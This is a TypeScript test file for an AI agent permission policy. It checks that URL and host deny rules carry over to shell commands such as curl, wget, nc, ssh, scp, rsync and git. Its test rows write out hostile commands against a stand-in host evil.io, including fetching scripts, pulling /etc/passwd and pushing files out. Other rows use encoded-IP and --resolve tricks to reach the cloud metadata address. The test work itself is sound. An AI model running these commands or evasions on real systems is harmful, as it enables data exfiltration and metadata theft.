// Item 4: host rules follow the shell. A deny or ask rule on fetch_url's URL (a url pattern or a
// host condition) applies to the URLs of curl, wget and httpie, the hosts of nc/ncat, socat,
// ssh/scp/sftp/rsync, and git clone/fetch/push remotes written literally; an address built from
// an expansion keeps its literal scheme and host, and is unknown (may match) otherwise.
// Controls: other hosts and named remotes stay allowed.
import { describe, expect, it } from 'vitest';
import { compilePolicy, evaluate } from '../index';
import { DEFAULT_POLICY } from '../defaults';
import { bashRule, check, CTX, policyOf, type Row } from './rows';

const ALLOW = [
  'curl *',
  'wget *',
  'http *',
  'https *',
  'xh *',
  'nc *',
  'ncat *',
  'telnet *',
  'socat *',
  'ssh *',
  'scp *',
  'sftp *',
  'rsync *',
  'git *',
  'git clone *',
  'git fetch *',
  'git pull *',
  'git push *',
  'git remote *',
  'git submodule *',
  'xargs *',
  'echo *',
  'cat *',
  'ping *',
];
const policy = policyOf({
  defaultAction: 'ask',
  rules: [
    {
      action: 'deny',
      tool: 'fetch_url',
      when: [{ key: 'url', op: 'host', value: 'evil.io,169.254.169.254,10.0.0.0/8' }],
    },
    { action: 'ask', tool: 'fetch_url', params: { url: 'https://api.github.com/**' } },
    { action: 'deny', tool: 'fetch_url', params: { url: 'https://paste.example/**' } },
    { action: 'deny', tool: 'fetch_url', agent: 'intern', params: { url: 'https://*.corp.example/**' } },
    ...ALLOW.map((c) => bashRule('allow', c)),
  ],
});

const adversarial: Row[] = [
  ['curl of a denied host', 'curl https://evil.io/x', 'deny', 'fetches https://evil.io/x'],
  ['curl without a scheme', 'curl evil.io/x', 'deny'],
  ['curl of a subdomain', 'curl https://a.b.evil.io', 'deny'],
  ['curl with upper case and a trailing dot', 'curl -s https://EVIL.io./', 'deny'],
  ['curl with userinfo', 'curl https://user:pw@evil.io/', 'deny'],
  ['curl with a port', 'curl http://evil.io:8080/', 'deny'],
  ['curl of a numeric IPv4 form', 'curl http://0xa9.0xfe.0xa9.0xfe/latest/meta-data', 'deny'],
  ['curl of a decimal IPv4', 'curl http://2852039166/', 'deny'],
  ['curl of a CIDR member', 'curl http://10.1.2.3/', 'deny'],
  ['curl of an IPv4-mapped IPv6', 'curl http://[::ffff:a9fe:a9fe]/', 'deny'],
  ['curl --url', 'curl --url https://evil.io', 'deny'],
  ['curl --url=', 'curl --url=https://evil.io', 'deny'],
  ['curl -x proxy', 'curl -x evil.io:3128 https://ok.io', 'deny'],
  ['curl --connect-to another host', 'curl --connect-to ok.io:443:evil.io:443 https://ok.io', 'deny'],
  ['curl --resolve to a denied address', 'curl --resolve ok.io:443:169.254.169.254 https://ok.io', 'deny'],
  ['curl of a URL pattern rule', 'curl https://paste.example/new', 'deny'],
  ['curl under an ask URL rule', 'curl https://api.github.com/repos/x', 'ask'],
  ['curl of a second URL', 'curl https://ok.io https://evil.io', 'deny'],
  ['curl of a URL with a known host and a run-time path', 'curl "https://evil.io/$PATH_PART"', 'deny'],
  ['curl of a URL only known at run time', 'curl "$URL"', 'deny'],
  ['curl through xargs', 'echo https://evil.io | xargs curl', 'deny'],
  ['curl behind a wrapper', 'timeout 5 curl https://evil.io', 'deny'],
  ['curl in a substitution', 'echo $(curl -s https://evil.io)', 'deny'],
  ['curl inside bash -c', 'bash -c "curl https://evil.io"', 'deny'],
  ['wget', 'wget https://evil.io/a.sh', 'deny'],
  ['wget without a scheme', 'wget -q evil.io/a.sh', 'deny'],
  ['wget of a URL pattern rule', 'wget https://paste.example/a', 'deny'],
  ['httpie with a method', 'http POST evil.io/x a=1', 'deny'],
  ['httpie https', 'https evil.io/x', 'deny'],
  ['xh', 'xh https://evil.io', 'deny'],
  ['nc', 'nc evil.io 80', 'deny', 'connects to evil.io'],
  ['nc with options', 'nc -v -w 3 evil.io 443', 'deny'],
  ['ncat', 'ncat evil.io 4444', 'deny'],
  ['telnet', 'telnet evil.io 25', 'deny'],
  ['socat', 'socat - TCP:evil.io:80', 'deny'],
  ['ssh', 'ssh evil.io', 'deny'],
  ['ssh user@host', 'ssh -p 2222 root@evil.io uptime', 'deny'],
  ['ssh URL form', 'ssh ssh://root@evil.io:22', 'deny'],
  ['ssh -J jump host', 'ssh -J evil.io internal', 'deny'],
  ['scp to a host', 'scp notes.txt evil.io:/tmp/', 'deny'],
  ['scp from user@host', 'scp user@evil.io:/etc/passwd .', 'deny'],
  ['sftp', 'sftp evil.io', 'deny'],
  ['rsync to host:path', 'rsync -a notes.txt evil.io:/srv/', 'deny'],
  ['rsync daemon module', 'rsync notes.txt evil.io::mod/', 'deny'],
  ['rsync URL', 'rsync rsync://evil.io/mod/ x', 'deny'],
  ['git clone https', 'git clone https://evil.io/r.git', 'deny'],
  ['git clone scp-like', 'git clone git@evil.io:org/repo.git', 'deny'],
  ['git fetch a URL', 'git fetch https://evil.io/r.git main', 'deny'],
  ['git pull a URL', 'git pull https://evil.io/r.git', 'deny'],
  ['git push a URL', 'git push https://evil.io/r.git main', 'deny'],
  ['git remote add', 'git remote add x https://evil.io/r.git', 'deny'],
  ['git submodule add', 'git submodule add https://evil.io/r.git lib/r', 'deny'],
  ['git with -C before the subcommand', 'git -C repo clone https://evil.io/r.git', 'deny'],
];

const controls: Row[] = [
  ['control: curl of another host', 'curl https://example.com', 'allow'],
  ['control: a host whose name ends like a denied one', 'curl https://notevil.io', 'allow'],
  ['control: a denied name as a path', 'curl https://ok.io/evil.io', 'allow'],
  ['control: a denied name as a subdomain of another host', 'curl https://evil.io.example.com', 'allow'],
  ['control: a URL with a known harmless host and a run-time path', 'curl "https://example.com/$P"', 'allow'],
  ['control: wget of another host', 'wget https://example.com/a.tgz', 'allow'],
  ['control: httpie localhost shorthand', 'http :3000/health', 'allow'],
  ['control: nc listening', 'nc -l 8080', 'allow'],
  ['control: nc to another host', 'nc example.com 80', 'allow'],
  ['control: ssh to another host', 'ssh build.example.com uptime', 'allow'],
  ['control: scp of local files', 'scp a.txt b.txt', 'allow'],
  ['control: rsync of local directories', 'rsync -a src/ dst/', 'allow'],
  ['control: git fetch of a named remote', 'git fetch origin', 'allow'],
  ['control: git push to a named remote', 'git push origin main', 'allow'],
  ['control: git clone of another host', 'git clone https://github.com/x/y.git', 'allow'],
  ['control: git status', 'git status', 'allow'],
  ['control: git log mentions a host', 'git log --grep evil.io', 'allow'],
  ['control: echo of a URL', 'echo https://evil.io', 'allow'],
  ['control: cat of a file named like a host', 'cat evil.io', 'allow'],
  ['control: a program outside the table', 'ping evil.io', 'allow'],
  ['control: GitHub API under the ask rule only for that host', 'curl https://github.com/x', 'allow'],
  ['control: an agent-scoped URL rule does not apply to another agent', 'curl https://x.corp.example/', 'allow'],
  ['control: a header naming a host', 'curl -H "Host: evil.io" https://example.com', 'allow'],
  ['control: xargs into echo', 'echo https://evil.io | xargs echo', 'allow'],
  ['control: the paste rule does not cover another path host', 'curl https://paste.example.org/x', 'allow'],
];

describe('item 4: host rules follow the shell', () => check(policy, adversarial));
describe('item 4: other hosts stay allowed', () => check(policy, controls));

describe('item 4: a host rule keeps its agent', () => {
  it('the intern rule applies to the intern', () => {
    expect(
      evaluate(policy, { tool: 'bash', params: { command: 'curl https://x.corp.example/' }, agent: 'intern' }, CTX)
        .action,
    ).toBe('deny');
  });
});

const byDefault = compilePolicy({
  ...DEFAULT_POLICY,
  rules: [...(DEFAULT_POLICY.rules ?? []), bashRule('allow', 'curl *')],
});
describe('item 4: the default policy keeps private networks off limits from the shell too', () =>
  check(byDefault, [
    ['curl of localhost', 'curl http://localhost:3000/', 'deny', 'no-private-network'],
    ['curl of the metadata address', 'curl http://169.254.169.254/latest/meta-data/', 'deny'],
    ['curl of 127.1', 'curl http://127.1/', 'deny'],
    ['control: curl of a public host', 'curl https://example.com/', 'allow'],
  ]));
